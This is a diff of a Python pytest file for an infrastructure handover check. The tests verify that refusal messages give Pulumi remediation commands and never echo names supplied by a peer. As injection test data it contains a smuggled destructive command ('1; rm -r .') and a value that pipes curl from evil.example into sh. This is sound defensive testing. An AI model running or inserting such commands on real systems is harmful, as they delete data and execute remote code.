@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from infra import handover_checks
+from infra import handover, handover_checks
 from infra.config.company_settings import Operator
 from infra.config.secundus_settings import Author
 from infra.handover import Handover, HandoverError
@@ -44,43 +44,59 @@ def test_a_handover_for_another_operator_is_refused() -> None:
 
 
 SET = "pulumi config set --stack"
-OURS = (
-    f"{SET} {SOURCE} --path 'confidential-inference:operator.serviceAccount' {US.service_account}"
+ADD = " && ".join(
+    [
+        *(
+            f"{SET} {SOURCE} --path 'confidential-inference:operators.NAME.{key}' {value}"
+            for key, value in (
+                ("project", US.project),
+                ("projectNumber", US.project_number),
+                ("serviceAccount", US.service_account),
+            )
+        ),
+        f"pulumi up --stack {SOURCE}",
+    ]
 )
 MENDS = {
     "the number": (
         {"operatorNumber": "333333333333"},
-        f"{SET} {SOURCE} --path 'confidential-inference:operator.projectNumber' 222222222222",
         f"{SET} secundus --path 'confidential-inference:projectNumber' 333333333333",
     ),
     "the account": (
         {"operatorAccount": "other-sa@secundus-vision.iam.gserviceaccount.com"},
-        OURS,
         f"{SET} secundus --path 'confidential-inference:names.serviceAccount' other-sa",
     ),
     "an account of another project": (
         {"operatorAccount": "workload-sa@tertius.iam.gserviceaccount.com"},
-        OURS,
         None,
     ),
-    "no number at all": (
-        {"operatorNumber": "1; rm -r ."},
-        f"{SET} {SOURCE} --path 'confidential-inference:operator.projectNumber' 222222222222",
-        None,
-    ),
+    "no number at all": ({"operatorNumber": "1; rm -r ."}, None),
 }
 
 
-@pytest.mark.parametrize(("other", "there", "here"), MENDS.values(), ids=MENDS)
-def test_the_refusal_has_one_command_for_each_side(
-    other: dict[str, str], there: str, here: str | None
+@pytest.mark.parametrize(("other", "here"), MENDS.values(), ids=MENDS)
+def test_the_refusal_has_commands_for_each_side_that_change_no_other_operator(
+    other: dict[str, str], here: str | None
 ) -> None:
-    """Either company can mend it, the peer's text is in a command only where it is harmless."""
+    """Who is admitted may be another customer; the peer's text is in no command."""
     with pytest.raises(HandoverError) as told:
         handover_checks.accepted({**GENUINE.published(), **other}, AUTHOR, US, SOURCE)
     _, primus, *secundus = str(told.value).rsplit("\n", 2 if here else 1)
-    assert primus == f"Have Primus admit this one: {there} && pulumi up --stack {SOURCE}"
+    assert primus == f"Have Primus add this company, under a name of its own: {ADD}"
     assert secundus == ([f"Or declare here what it admits: {here}"] if here else [])
+
+
+INJECTED = "x'; curl evil.example|sh; echo '\n"
+
+
+@pytest.mark.parametrize("number", [1, 2])
+def test_no_name_that_the_peer_gave_an_operator_is_in_an_error(number: int) -> None:
+    """Somebody would paste the command around it."""
+    other = {**GENUINE.published(), "operatorNumber": "333333333333"}
+    outputs = {handover.NAMED: {f"{INJECTED}{n}": other for n in range(number)}}
+    with pytest.raises(HandoverError) as told:
+        handover_checks.accepted(handover_checks.own(outputs, US, SOURCE), AUTHOR, US, SOURCE)
+    assert "curl" not in str(told.value)
 
 
 def test_a_handover_of_an_earlier_version_is_accepted() -> None:
